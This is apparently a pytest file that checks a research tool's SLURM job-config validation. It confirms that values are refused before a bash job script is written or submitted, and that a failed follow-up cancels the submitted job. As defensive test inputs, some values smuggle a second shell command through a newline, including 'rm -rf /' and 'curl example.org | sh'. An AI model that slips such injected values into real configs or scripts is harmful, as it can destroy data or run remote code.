"""SLURM config values are checked before anything is written or submitted (backsplit/runtime/slurm.py), and a
job array whose follow-up fails is cancelled (backsplit/study/slurm.py). Each value lands in a line of a bash job
script, so a line break in a value would be a script line of its own. The checks need no cluster; the last two
tests submit to a real single-node SLURM (Testing/fixtures_slurm.py; skipped, with the reason, where slurm-wlm and
munge are not installed)."""

from __future__ import annotations

import json
import os
import subprocess
import time

import pytest
from fixtures_slurm import slurm_cluster  # noqa: F401 - pytest fixture

from backsplit.errors import InputError


@pytest.mark.parametrize("content, words", [
    ([1], "must be a JSON object"),
    (3, "must be a JSON object"),
    ({"partiton": "gpu"}, "unknown SLURM config key"),
    ({"poll_s": "5"}, "'poll_s' is '5'"),
    ({"poll_s": 0}, "'poll_s' is 0"),
    ({"cpus_per_task": True}, "'cpus_per_task' is True"),
    ({"cpus_per_task": 0}, "'cpus_per_task' is 0"),
    ({"max_parallel": 2.5}, "'max_parallel' is 2.5"),
    ({"partition": "gpu\necho injected"}, "control character (U+000A"),
    ({"account": "lab\u2028x"}, "control character (U+2028"),
    ({"extra_args": ["--qos=short", "--comment=a\rb"]}, "control character (U+000D"),
    ({"extra_args": "--qos=short\nrm -rf /"}, "control character (U+000A"),
    ({"extra_args": ["qos=short"]}, "not an sbatch option"),
    ({"extra_args": [3]}, "every entry must be a text"),
    ({"extra_args": "--comment='open"}, "cannot be split"),
    ({"time": "4 hours"}, "'time' is '4 hours'"),
    ({"mem": "lots"}, "'mem' is 'lots'"),
    ({"job_name": "my job"}, "'job_name' is 'my job'"),
])
def test_slurm_config_refused_naming_key_and_value(tmp_path, content, words):
    from backsplit.runtime.slurm import SlurmConfig

    config = tmp_path / "slurm.json"
    config.write_text(json.dumps(content))
    with pytest.raises(InputError) as error:
        SlurmConfig.load(config)
    assert words in str(error.value) and str(config) in str(error.value)


def test_slurm_options_are_checked_like_the_file():
    from backsplit.runtime.slurm import SlurmConfig

    with pytest.raises(InputError, match="control character"):
        SlurmConfig.load(None, partition="gpu\nsleep 1")
    with pytest.raises(InputError, match="'poll_s' is -1"):
        SlurmConfig.load(None, poll_s=-1)
    with pytest.raises(InputError, match="control character"):
        SlurmConfig(gres="gpu:1\nx")


def test_slurm_config_accepted_and_text_extra_args_split(tmp_path):
    from backsplit.runtime.slurm import SlurmConfig

    config = tmp_path / "slurm.json"
    config.write_text(json.dumps({"partition": "gpu", "time": "1-00:00:00", "cpus_per_task": 8, "mem": "32G",
                                  "gres": "gpu:a100:1", "extra_args": "--qos=short --comment='two words'",
                                  "poll_s": 2.5, "max_parallel": None}))
    loaded = SlurmConfig.load(config)
    # the text is split as a shell would split it (it used to become one #SBATCH line per character)
    assert loaded.extra_args == ["--qos=short", "--comment=two words"]
    assert loaded.directives()[-2:] == ["--qos=short", "--comment=two words"]
    assert loaded.max_parallel is None and loaded.poll_s == 2.5


def test_values_changed_after_loading_are_checked_before_a_script_is_written(tmp_path):
    from backsplit.runtime.slurm import SlurmConfig
    from backsplit.study.slurm import array_script
    from backsplit.training.cluster import training_script

    config = SlurmConfig()
    config.gres = "gpu:1\ncurl example.org | sh"
    with pytest.raises(InputError, match="control character"):
        array_script(tmp_path, ["unit"], config, tmp_path / "slurm")
    with pytest.raises(InputError, match="control character"):
        training_script(tmp_path / "o.json", {}, config, "python")
    with pytest.raises(InputError, match="a space"):
        array_script(tmp_path / "my study", ["unit"], SlurmConfig(), tmp_path / "slurm")


def _jobs(env) -> list[str]:
    return subprocess.run(["squeue", "-h", "-o", "%i"], env=env, capture_output=True, text=True,
                          check=True).stdout.split()


def test_slurm_newline_in_value_refused_before_sbatch(slurm_cluster, tmp_path):  # noqa: F811
    from backsplit.study.slurm import SlurmConfig, SlurmExecutor

    calls = []

    def run(args, **kwargs):
        calls.append(args[0])
        return subprocess.run(args, env=slurm_cluster, **kwargs)

    config = SlurmConfig(cpus_per_task=1)
    config.partition = "debug\ntouch injected"     # set after construction: checked again before the script
    before = _jobs(slurm_cluster)
    with pytest.raises(InputError, match="control character"):
        SlurmExecutor(config, run=run).run(tmp_path, ["unit-a"], echo=lambda m: None)
    assert calls == [] and _jobs(slurm_cluster) == before
    assert not list(tmp_path.glob("slurm/*.sh"))


def test_slurm_failure_after_submit_cancels_the_job(slurm_cluster, tmp_path):  # noqa: F811
    from backsplit.study.slurm import SlurmConfig, SlurmExecutor

    calls = []

    def run(args, **kwargs):
        calls.append(args)
        if args[0] == "squeue":    # the follow-up fails right after a real sbatch
            raise RuntimeError("squeue broke")
        return subprocess.run(args, env=slurm_cluster, **kwargs)

    executor = SlurmExecutor(SlurmConfig(cpus_per_task=1, extra_args=["--begin=now+1hour"]), run=run)
    with pytest.raises(RuntimeError, match="squeue broke"):
        executor.run(tmp_path, ["unit-a"], echo=lambda m: None)
    cancels = [a for a in calls if a[0] == "scancel"]
    assert [a[0] for a in calls[:1]] == ["sbatch"] and len(cancels) == 1, calls
    job_id = cancels[0][1]
    deadline = time.time() + 60     # scancel is asynchronous: wait until SLURM has removed the held job
    while time.time() < deadline and any(j.startswith(job_id) for j in _jobs(slurm_cluster)):
        time.sleep(0.5)
    assert not any(j.startswith(job_id) for j in _jobs(slurm_cluster))
    assert os.path.exists(tmp_path / "slurm")
